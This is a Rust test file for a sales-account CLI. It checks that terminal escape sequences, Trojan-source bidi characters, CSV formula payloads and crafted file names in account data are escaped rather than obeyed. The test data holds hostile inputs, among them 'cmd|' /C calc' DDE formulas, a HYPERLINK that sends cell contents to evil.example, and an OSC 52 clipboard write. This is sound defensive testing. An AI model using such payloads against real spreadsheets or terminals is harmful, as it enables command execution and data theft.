//! What reaches a terminal, a spreadsheet or a pull request: control characters shown, never
//! obeyed; CSV cells that a spreadsheet would run neutralised; file names in Markdown escaped.

use crate::support::{Test, repo};

fn complete() -> String {
    std::fs::read_to_string(repo().join("tests/fixtures/accounts/complete.toml")).unwrap()
}

/// The sample account with escape sequences in its name, owner, a contact, a next step and a
/// competitor: a title change (OSC), a screen clear (CSI), a C1 CSI, DEL and a hyperlink.
fn hostile() -> String {
    complete()
        .replace(
            "name = \"华东精密制造有限公司\"",
            "name = \"Acme\\u001B]0;pwned\\u0007\\u001B[2J\u{9b}31m\\u007F\\u001B]8;;http://evil/\\u001B\\\\click\"",
        )
        .replace("owner = \"li.wei\"", "owner = \"li\\u001B[8mhidden\"")
        .replace("name = \"王芳\"", "name = \"王芳\\u001B[1A\\u001B[2K\"")
        .replace(
            "next_step = \"Sign the framework agreement\"",
            "next_step = \"Sign\\u001B]52;c;cHduZWQ=\\u0007 it\"",
        )
}

/// The control characters a terminal obeys, other than a line feed.
fn obeyed(c: char) -> bool {
    c.is_control() && c != '\n'
}

/// `text` without kam's own color codes (`ESC [ digits ; m`): with `--color always` they are the
/// only escapes allowed through.
fn without_own_colors(text: &str) -> String {
    let mut out = String::new();
    let mut rest = text;
    while let Some(i) = rest.find("\x1b[") {
        let body = &rest[i + 2..];
        let end = body.find(|c: char| !(c.is_ascii_digit() || c == ';'));
        out.push_str(&rest[..i]);
        match end {
            Some(e) if body[e..].starts_with('m') => rest = &body[e + 1..],
            _ => {
                out.push('\x1b');
                rest = &rest[i + 1..];
            }
        }
    }
    out.push_str(rest);
    out
}

#[track_caller]
fn shown_not_obeyed(out: &crate::support::Outcome, what: &str) {
    for (stream, text) in [("stdout", &out.stdout), ("stderr", &out.stderr)] {
        let text = &without_own_colors(text);
        if let Some(c) = text.chars().find(|c| obeyed(*c)) {
            panic!("{what}: {stream} holds the raw control character {c:?}:\n{text}");
        }
    }
}

/// Every text output of an account (`complete`), in every format a person reads.
const TEXT_OUTPUTS: &[&[&str]] = &[
    &["list"],
    &["list", "--format", "md"],
    &["list", "--format", "csv"],
    &["due", "--within", "30"],
    &["due", "--format", "md", "--within", "30"],
    &["gate"],
    &["gate", "complete"],
    &["score"],
    &["score", "--format", "md"],
    &["score", "--format", "csv"],
    &["score", "complete", "--explain"],
    &["report", "visit", "complete", "--date", "2026-11-15"],
    &["report", "visit", "complete", "--format", "md", "--date", "2026-11-15"],
    &["report", "negotiation", "complete"],
    &["report", "negotiation", "complete", "--format", "md"],
    &["export", "--format", "csv"],
    &["check"],
    &["advance", "complete", "--dry-run"],
    &["show", "complete"],
    &["show", "complete", "--format", "md"],
    &["task", "complete", "list"],
    &["set", "complete", "company.industry=Steel", "--dry-run"],
    &["stats"],
    &["stats", "--by", "owner"],
    &["forecast"],
    &["forecast", "--format", "md"],
    &["report", "reception", "complete"],
    &["report", "reception", "complete", "--format", "md"],
    &["report", "expenses"],
    &["report", "expenses", "--format", "md"],
    &["list", "--group-by", "owner"],
];

#[test]
fn control_characters_in_account_data_are_shown_in_every_text_output() {
    let t = Test::new().file("accounts/complete.toml", &hostile()).deadline(30);
    for color in ["never", "always"] {
        for args in TEXT_OUTPUTS {
            // After the command: the test harness gives `--color never` before it.
            let mut all = args.to_vec();
            all.extend_from_slice(&["--color", color]);
            let out = t.kam(&all);
            assert!(out.code < 2, "{all:?}: exit {}\n{}", out.code, out.stderr);
            shown_not_obeyed(&out, &all.join(" "));
        }
    }
    let out = t.kam(&["list"]);
    out.stdout_has("␛]0;pwned␇").stdout_has("\\u{9b}31m");
}

/// The sample account with direction controls and invisible characters ("Trojan source"): the
/// name reads "华东精密Ltd" where the override is obeyed, a contact's name hides a zero-width space
/// and the next step an isolate (both written as escapes), a comment a byte order mark.
fn trojan() -> String {
    complete()
        .replace(
            "name = \"华东精密制造有限公司\"",
            "name = \"华东精密\u{202e}dtL\u{202c}\"",
        )
        .replace("name = \"王芳\"", "name = \"王\\u200B芳\"")
        .replace(
            "next_step = \"Sign the framework agreement\"",
            "next_step = \"Sign\\u2066 it\\u2069\"",
        )
        + "# a comment \u{feff}with a byte order mark\n"
}

const PLANTED: [char; 6] = ['\u{202e}', '\u{202c}', '\u{200b}', '\u{2066}', '\u{2069}', '\u{feff}'];

#[test]
fn direction_controls_and_invisible_characters_are_findings_and_shown_in_every_output() {
    let text = trojan();
    let t = Test::new().file("accounts/complete.toml", &text).deadline(30);
    let check = t.kam(&["check"]);
    let line = |start: &str| text.lines().position(|l| l.starts_with(start)).unwrap() + 1;
    check
        .code(1)
        .stdout_has(&format!(
            "error[KAM050]: the invisible direction control U+202E (RIGHT-TO-LEFT OVERRIDE) changes how the text around it reads\n --> accounts/complete.toml:{}:13",
            line("name = \"华东")
        ))
        .stdout_has("U+202C (POP DIRECTIONAL FORMATTING)")
        .stdout_has("error[KAM050]: the invisible character U+200B (ZERO WIDTH SPACE) hides in the text")
        .stdout_has("U+2066 (LEFT-TO-RIGHT ISOLATE)")
        .stdout_has("U+2069 (POP DIRECTIONAL ISOLATE)")
        .stdout_has("U+FEFF (ZERO WIDTH NO-BREAK SPACE)")
        .stdout_has("help: remove it");
    assert_eq!(
        check.stdout.matches("[KAM050]").count(),
        PLANTED.len(),
        "{}",
        check.stdout
    );
    // Every output shows them, none obeys them.
    let mut outputs: Vec<Vec<&str>> = TEXT_OUTPUTS.iter().map(|a| a.to_vec()).collect();
    outputs.extend([
        vec!["list", "--format", "json"],
        vec!["export", "--format", "json"],
        vec!["due", "--format", "ics", "--within", "30"],
        vec!["dashboard"],
    ]);
    for color in ["never", "always"] {
        for args in &outputs {
            let mut all = args.clone();
            all.extend_from_slice(&["--color", color]);
            let out = t.kam(&all);
            for (stream, s) in [("stdout", &out.stdout), ("stderr", &out.stderr)] {
                if let Some(c) = s.chars().find(|c| PLANTED.contains(c)) {
                    panic!("{all:?}: {stream} holds the raw {c:?}:\n{s}");
                }
            }
        }
    }
    t.kam(&["list"]).stdout_has("华东精密\\u{202e}dtL\\u{202c}");
    t.kam(&["show", "complete"]).stdout_has("王\\u{200b}芳");
    // JSON escapes them and keeps the data.
    let json: serde_json::Value = serde_json::from_str(&t.kam(&["list", "--format", "json"]).stdout).unwrap();
    assert_eq!(json[0]["name"], "华东精密\u{202e}dtL\u{202c}");
    // A new account of such a name is refused before anything is written.
    let out = t.kam(&["new", "Acme\u{202e}dtL", "--owner", "li.wei"]);
    out.code(2)
        .stderr_has("holds the invisible character U+202E (RIGHT-TO-LEFT OVERRIDE); nothing was written");
    assert!(!t.path().join("accounts/acme-dtl.toml").exists());
}

#[test]
fn json_escapes_c1_and_del_as_well_as_c0() {
    let t = Test::new().file("accounts/complete.toml", &hostile());
    for args in [
        &["list", "--format", "json"][..],
        &["score", "--format", "json"],
        &["gate", "--format", "json"],
        &["gate", "complete", "--format", "json"],
        &["due", "--format", "json", "--within", "30"],
        &["export", "--format", "json"],
    ] {
        let out = t.kam(args);
        out.code(0);
        assert!(
            !out.stdout.chars().any(obeyed),
            "{args:?} holds a raw control character:\n{}",
            out.stdout
        );
        // The escapes stand for the very characters: the data survives the trip.
        let value: serde_json::Value = serde_json::from_str(&out.stdout).unwrap();
        if !args.contains(&"gate") {
            assert!(value.to_string().contains("\\u001b]0;pwned"), "{args:?}");
        }
    }
    let out = t.kam(&["export", "--format", "json"]);
    assert!(
        out.stdout.contains("\\u009b31m") && out.stdout.contains("\\u007f"),
        "{}",
        out.stdout
    );
}

#[test]
fn csv_cells_a_spreadsheet_would_run_are_neutralised_and_numbers_stay_numbers() {
    let text = complete()
        .replace(
            "name = \"华东精密制造有限公司\"",
            "name = '=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")'",
        )
        .replace("owner = \"li.wei\"", "owner = \"+cmd|' /C calc'!A0\"")
        .replace(
            "industry = \"Precision machining\"",
            "industry = \"@SUM(1+1)*cmd|' /C calc'!A0\"",
        )
        .replace(
            "main_business = \"Gearboxes for wind turbines\"",
            "main_business = \"-2+3+cmd|' /C calc'!A0\"",
        )
        .replace(
            "next_step = \"Sign the framework agreement\"",
            "next_step = \"\\t=1+1\"",
        );
    let t = Test::new().file("accounts/complete.toml", &text);
    let formulas = ["=HYPERLINK", "+cmd|", "@SUM", "-2+3+cmd", "\t=1+1"];
    for args in [
        &["export", "--format", "csv"][..],
        &["list", "--format", "csv"],
        &["score", "--format", "csv"],
        &["stats", "--by", "owner", "--format", "csv"],
        &["report", "expenses", "--format", "csv"],
    ] {
        let out = t.kam(args);
        out.code(0);
        let mut reader_cells = Vec::new();
        for line in out.stdout.lines().skip(1) {
            reader_cells.extend(split_csv(line));
        }
        for cell in &reader_cells {
            assert!(
                !formulas.iter().any(|f| cell.starts_with(f)),
                "{args:?}: the cell {cell:?} would run as a formula"
            );
        }
        // Numbers are left alone.
        assert!(
            reader_cells.iter().any(|c| c.parse::<f64>().is_ok()),
            "{args:?}: {reader_cells:?}"
        );
        assert!(
            !reader_cells
                .iter()
                .any(|c| c.strip_prefix('\'').is_some_and(|n| n.parse::<f64>().is_ok())),
            "{args:?}: a number was neutralised: {reader_cells:?}"
        );
    }
    let out = t.kam(&["export", "--format", "csv"]);
    assert!(out.stdout.contains("'+cmd|' /C calc'!A0"), "{}", out.stdout);
    let raw = t.kam(&["export", "--format", "csv", "--raw-cells"]);
    assert!(raw.stdout.contains(",+cmd|' /C calc'!A0,"), "{}", raw.stdout);
    t.kam(&["list", "--format", "csv", "--raw-cells"])
        .code(0)
        .stdout_has(",+cmd|");
    t.kam(&["score", "--format", "csv", "--raw-cells"])
        .code(0)
        .stdout_has(",\"=HYPERLINK");
}

/// The cells of one CSV line (quotes undone; no line breaks inside cells in these tests).
fn split_csv(line: &str) -> Vec<String> {
    let mut cells = Vec::new();
    let mut cell = String::new();
    let mut quoted = false;
    let mut chars = line.chars().peekable();
    while let Some(c) = chars.next() {
        match (c, quoted) {
            ('"', true) if chars.peek() == Some(&'"') => {
                cell.push('"');
                chars.next();
            }
            ('"', _) => quoted = !quoted,
            (',', false) => cells.push(std::mem::take(&mut cell)),
            (c, _) => cell.push(c),
        }
    }
    cells.push(cell);
    cells
}

#[test]
fn file_names_in_markdown_diffs_are_escaped_like_data() {
    let t = Test::new().file("accounts/.gitkeep", "");
    t.git(&["init", "-q"]);
    t.git(&["add", "-A"]);
    t.git(&["commit", "-qm", "start"]);
    t.write("accounts/a`b.toml", &complete().replace("\"complete\"", "\"a-b\""));
    t.write(
        "accounts/x\n# Approved by the sales director\n.toml",
        &complete().replace("\"complete\"", "\"x\""),
    );
    let out = t.kam(&["diff", "--format", "md"]);
    out.code(0);
    assert!(
        !out.stdout.lines().any(|l| l.starts_with("# Approved")),
        "a file name started a heading:\n{}",
        out.stdout
    );
    assert!(out.stdout.contains("``accounts/a`b.toml``"), "{}", out.stdout);
    let out = t.kam(&["diff"]);
    assert!(
        !out.stdout.lines().any(|l| l.starts_with("# Approved")),
        "{}",
        out.stdout
    );
}
